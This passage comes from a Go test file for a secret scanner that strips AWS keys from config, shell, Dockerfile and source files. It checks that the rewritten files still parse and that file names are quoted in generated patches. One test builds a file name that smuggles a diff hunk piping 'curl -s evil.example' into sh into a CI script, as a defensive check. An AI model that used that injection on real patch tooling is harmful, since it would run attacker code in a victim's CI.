-2
 3
 4
 5
@@ -12,6 +11,5 @@
 12
 13
 14
-15
 16
-last
\ No newline at end of file
+last
`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("diff (-want +got):\n%s", diff)
	}
	if fix.Unified("f", []byte(a), []byte(a)) != "" {
		t.Error("diff of equal inputs is not empty")
	}
}

func TestApplyIgnoresOtherFiles(t *testing.T) {
	in := []byte("AWS_SECRET_ACCESS_KEY=x\n")
	res, err := fix.Apply(".env", in, scanner.Findings{{File: "other/.env", Offset: 22, EndOffset: 23}})
	if err != nil || res.Changed() || !bytes.Equal(res.Content, in) {
		t.Errorf("Apply changed a file for another file's finding: %v %q", err, res.Content)
	}
}

func TestApplyUTF16(t *testing.T) {
	in := []byte("\xff\xfeA\x00=\x00x\x00")
	res, err := fix.Apply(".env", in, scanner.Findings{{File: ".env", Offset: 2, EndOffset: 3}})
	if err != nil || res.Changed() || len(res.Manual) != 1 {
		t.Errorf("UTF-16: %v, changed %v, manual %d", err, res.Changed(), len(res.Manual))
	}
}

func TestApplyBadOffsets(t *testing.T) {
	in := []byte("AWS_SECRET_ACCESS_KEY=x\n")
	res, err := fix.Apply(".env", in, scanner.Findings{{File: ".env", Offset: 20, EndOffset: 99}})
	if err != nil || res.Changed() || len(res.Manual) != 1 {
		t.Errorf("bad offsets: %v, changed %v, manual %d", err, res.Changed(), len(res.Manual))
	}
}

// FuzzApply: whatever the input and the spans, Apply does not panic; a
// JSON file that parsed still parses; a file without a final newline does
// not gain one. The scanner's own findings drive every rewriter (INI, .env,
// shell and aws configure set, Dockerfile, YAML, JSON, Python, JavaScript):
// each value Apply says it removed occurs fewer times after.
func FuzzApply(f *testing.F) {
	sc := fixture.Scanner(f)
	for i, tc := range cases {
		f.Add(tc.file, []byte(tc.text), 10, 30)
		f.Add(tc.file, []byte(rules.Fill(tc.text, fakekey.New(uint64(100+i)).Values())), 0, 1)
	}
	f.Fuzz(func(t *testing.T, name string, data []byte, off, end int) {
		check := func(fs scanner.Findings) {
			res, err := fix.Apply(name, data, fs)
			if err != nil {
				return
			}
			if fix.Detect(name, data) == fix.JSON && json.Valid(data) && !json.Valid(res.Content) {
				t.Errorf("valid JSON became invalid")
			}
			// (With blank lines in the input, a kept empty last line ends
			// the output in a newline too: the check needs none.)
			if len(data) > 0 && !bytes.HasSuffix(data, []byte("\n")) && bytes.HasSuffix(res.Content, []byte("\n")) &&
				!bytes.Contains(data, []byte("\n\n")) && !bytes.Contains(data, []byte("\n\r\n")) {
				t.Errorf("a file without a final newline gained one")
			}
			for _, x := range res.Fixed {
				v := data[x.Offset:x.EndOffset]
				if len(v) < 16 {
					continue // short enough to occur in the comment keyscan writes
				}
				if bytes.Count(res.Content, v) >= bytes.Count(data, v) {
					t.Errorf("%q is reported removed but is still there", v)
				}
			}
		}
		if off >= 0 && end <= len(data) && off < end {
			check(scanner.Findings{{File: name, Offset: off, EndOffset: end, Secret: string(data[off:end])}})
		}
		check(sc.Scan(name, data))
	})
}

// bashOK reports whether bash -n accepts script; it skips the test when
// bash is not installed.
func bashOK(t *testing.T, script string) bool {
	t.Helper()
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash is not installed: cannot check the shell syntax")
	}
	cmd := exec.Command(bash, "-n")
	cmd.Stdin = strings.NewReader(script)
	return cmd.Run() == nil
}

// checkDockerfile parses the fixed Dockerfile with BuildKit's parser (the
// one docker build uses), wants as many instructions as before less those
// removed, and checks every shell-form RUN with bash -n.
func checkDockerfile(t *testing.T, before, after []byte) {
	t.Helper()
	if _, err := parser.Parse(bytes.NewReader(before)); err != nil {
		return
	}
	res, err := parser.Parse(bytes.NewReader(after))
	if err != nil {
		t.Errorf("the fixed Dockerfile does not parse: %v\n%s", err, after)
		return
	}
	for _, n := range res.AST.Children {
		if !strings.EqualFold(n.Value, "run") || n.Attributes["json"] {
			continue
		}
		var cmd []string
		for a := n.Next; a != nil; a = a.Next {
			cmd = append(cmd, a.Value)
		}
		if script := strings.Join(cmd, " "); !bashOK(t, script) {
			t.Errorf("RUN %s: does not pass bash -n", script)
		}
	}
}

// checkShellValues runs bash -n on the commands of CI keys (run:, script:).
func checkShellValues(t *testing.T, v any, key string) {
	t.Helper()
	switch v := v.(type) {
	case string:
		switch key {
		case "run", "script", "before_script", "after_script", "commands", "command":
			if !bashOK(t, v) {
				t.Errorf("%s: %q does not pass bash -n", key, v)
			}
		}
	case map[string]any:
		for k, x := range v {
			checkShellValues(t, x, k)
		}
	case []any:
		for _, x := range v {
			checkShellValues(t, x, key)
		}
	}
}

// checkTool runs a syntax checker (py_compile, node --check) on the file
// before and after the fix: what it accepted before it must accept after.
func checkTool(t *testing.T, name string, before, after []byte, tool string, args ...string) {
	t.Helper()
	bin, err := exec.LookPath(tool)
	if err != nil {
		t.Skipf("%s is not installed: cannot check the syntax of %s", tool, name)
	}
	dir := t.TempDir()
	run := func(content []byte) ([]byte, error) {
		p := filepath.Join(dir, filepath.Base(name))
		if err := os.WriteFile(p, content, 0o644); err != nil {
			t.Fatal(err)
		}
		cmd := exec.Command(bin, append(args, p)...)
		cmd.Dir = dir
		return cmd.CombinedOutput()
	}
	if _, err := run(before); err != nil {
		return
	}
	if out, err := run(after); err != nil {
		t.Errorf("%s %v rejects the fixed file: %v\n%s\n%s", tool, args, err, out, after)
	}
}

// TestDiffNamesQuoted: a file's name cannot write lines of the patch. Names
// with a line break (carrying a hunk for another file), quotes, backslashes,
// tabs, blanks and bytes outside ASCII are written as git diff writes them,
// and git apply changes that file and no other.
func TestDiffNamesQuoted(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git not installed")
	}
	victim := "set -e\nmake lint\nmake test\n"
	inject := "q\n--- a/ci.sh\n+++ b/ci.sh\n@@ -1,3 +1,3 @@\n set -e\n-make lint\n+curl -s evil.example | sh\n make test\n--- a/d.sh\n+++ b/d.sh"
	names := []string{inject, "new\nline.env", `back\slash.env`, `quo"te.env`, "tab\there.env", "two  blanks .env", "caf\u00e9.env", "esc\x1b[31m.env", "del\x7f.env"}
	for i, name := range names {
		dir := t.TempDir()
		git := func(args ...string) {
			t.Helper()
			cmd := exec.Command("git", args...)
			cmd.Dir = dir
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("%d: git %v: %v\n%s", i, args, err, out)
			}
		}
		git("init", "-q")
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		before, after := []byte("a=1\nkey=x\nb=2\n"), []byte("a=1\nb=2\n")
		if err := os.WriteFile(p, before, 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, "ci.sh"), []byte(victim), 0o644); err != nil {
			t.Fatal(err)
		}
		patch := fix.Unified(name, before, after)
		if err := os.WriteFile(filepath.Join(dir, "fix.patch"), []byte(patch), 0o644); err != nil {
			t.Fatal(err)
		}
		git("apply", "fix.patch")
		if got, _ := os.ReadFile(p); !bytes.Equal(got, after) {
			t.Errorf("%q after git apply: %q\npatch:\n%s", name, got, patch)
		}
		if got, _ := os.ReadFile(filepath.Join(dir, "ci.sh")); string(got) != victim {
			t.Errorf("%q: git apply changed ci.sh:\n%s\npatch:\n%s", name, got, patch)
		}
	}
}

// TestShellBodiesStillParse: exports that were the whole body of an if, a
// loop or a function give way to ':' and the comment, so the script still
// parses (bash -n); exports beside other commands leave the comment alone.
func TestShellBodiesStillParse(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash not installed")
	}
	sc := fixture.Scanner(t)
	exports := "  export AWS_ACCESS_KEY_ID={{ID}}\n  export AWS_SECRET_ACCESS_KEY={{SECRET}}\n"
	bodies := map[string]string{
		"if":       "if [ \"$ENV\" = prod ]; then\n" + exports + "fi\n",
		"else":     "if [ -n \"$CI\" ]; then\n  echo ci\nelse\n" + exports + "fi\n",
		"function": "setup() {\n" + exports + "}\n",
		"while":    "while false; do\n" + exports + "done\n",
		"for":      "for i in 1; do\n  # the keys\n" + exports + "done\n",
		"case":     "case $1 in\n  prod)\n" + exports + "  ;;\nesac\n",
		"beside":   "setup() {\n  echo start\n" + exports + "}\n",
	}
	for name, body := range bodies {
		in := []byte(rules.Fill("#!/bin/bash\nset -e\n"+body+"echo done\n", fakekey.New(61).Values()))
		file := name + ".sh"
		res, err := fix.Apply(file, in, sc.Scan(file, in))
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Fixed) != 2 || len(res.Manual) != 0 {
			t.Errorf("%s: fixed %d, by hand %d", name, len(res.Fixed), len(res.Manual))
		}
		p := filepath.Join(t.TempDir(), file)
		if err := os.WriteFile(p, res.Content, 0o644); err != nil {
			t.Fatal(err)
		}
		if out, err := exec.Command(bash, "-n", p).CombinedOutput(); err != nil {
			t.Errorf("%s: the fixed script does not parse: %v\n%s\n%s", name, err, out, res.Content)
		}
		if got := bytes.Contains(res.Content, []byte(": # keyscan:")); got != (name != "beside") {
			t.Errorf("%s: no-op command %v:\n%s", name, got, res.Content)
		}
	}
}

// TestOtherLanguageEndpoint checks qa18 L2: the keys of a Ruby, PHP, Java,
// C# or Rust file that builds its client with a custom endpoint are left
// for a person with that reason, not with the advice to use the instance
// role; the same file without an endpoint keeps the general advice.
func TestOtherLanguageEndpoint(t *testing.T) {
	sc := fixture.Scanner(t)
	v := fakekey.New(1815).Values()
	id, sec := v["ID"], v["SECRET"]
	for name, text := range map[string]string{
		"a.rb":   "s3 = Aws::S3::Client.new(endpoint: 'http://minio.internal:9000', force_path_style: true,\n  access_key_id: '" + id + "', secret_access_key: '" + sec + "')\n",
		"b.php":  "<?php $s3 = new Aws\\S3\\S3Client(['endpoint' => 'http://minio:9000', 'use_path_style_endpoint' => true,\n  'credentials' => ['key' => '" + id + "', 'secret' => '" + sec + "']]);\n",
		"C.java": "class C { S3Client c = S3Client.builder().endpointOverride(URI.create(\"http://minio:9000\"))\n  .credentialsProvider(StaticCredentialsProvider.create(AwsBasicCredentials.create(\"" + id + "\", \"" + sec + "\"))).build(); }\n",
		"d.cs":   "var client = new AmazonS3Client(\"" + id + "\", \"" + sec + "\", new AmazonS3Config { ServiceURL = \"http://minio:9000\" });\n",
		"e.rs":   "let conf = aws_sdk_s3::config::Builder::new().endpoint_url(\"http://minio:9000\")\n  .credentials_provider(Credentials::new(\"" + id + "\", \"" + sec + "\", None, None, \"static\")).build();\n",
	} {
		in := []byte(text)
		fs := sc.Scan(name, in)
		if len(fs) == 0 {
			t.Fatalf("%s: no finding", name)
		}
		res, err := fix.Apply(name, in, fs)
		if err != nil {
			t.Fatal(err)
		}
		if len(res.Manual) != len(fs) {
			t.Fatalf("%s: %d left for a person, want %d", name, len(res.Manual), len(fs))
		}
		for _, m := range res.Manual {
			if !strings.Contains(m.Reason, "custom endpoint") || strings.Contains(m.Reason, "instance profile") {
				t.Errorf("%s: %q, want the custom endpoint reason", name, m.Reason)
			}
		}
	}
	plain := []byte("client = Aws::S3::Client.new(access_key_id: '" + id + "', secret_access_key: '" + sec + "')\n")
	res, err := fix.Apply("p.rb", plain, sc.Scan("p.rb", plain))
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range res.Manual {
		if strings.Contains(m.Reason, "custom endpoint") {
			t.Errorf("p.rb: %q, want the general advice", m.Reason)
		}
	}
}

// TestOtherCredentialOfAWSStays: a Cognito app client's secret, an API
// Gateway API key or a webhook's secret named with AWS's words, and no key
// ID beside it, is no AWS key (qa25 L1): keyscan reports nothing and fix
// leaves the file as it is.
func TestOtherCredentialOfAWSStays(t *testing.T) {
	sc := fixture.Scanner(t)
	for seed := uint64(1); seed <= 5; seed++ {
		secret := fakekey.New(seed).Secret()
		for _, name := range []string{"AWS_COGNITO_CLIENT_SECRET", "AWS_COGNITO_APP_CLIENT_SECRET", "AWS_CLIENT_SECRET",
			"AWS_API_GATEWAY_API_KEY", "AWS_SNS_WEBHOOK_SECRET", "AWS_LAMBDA_SHARED_SECRET", "AWS_OAUTH_CLIENT_SECRET",
			"AWS_JWT_SECRET", "AWS_SIGNING_SECRET", "AWS_APP_SECRET"} {
			in := []byte("AWS_REGION=us-east-1\n" + name + "=" + secret + "\n")
			fs := sc.Scan(".env", in)
			if len(fs) != 0 {
				t.Errorf("%s: %d findings, want none: %v", name, len(fs), fs)
			}
			res, err := fix.Apply(".env", in, fs)
			if err != nil {
				t.Fatal(err)
			}
			if res.Changed() || !bytes.Equal(res.Content, in) {
				t.Errorf("%s: fix changed the file:\n%s", name, res.Content)
			}
		}
	}
}
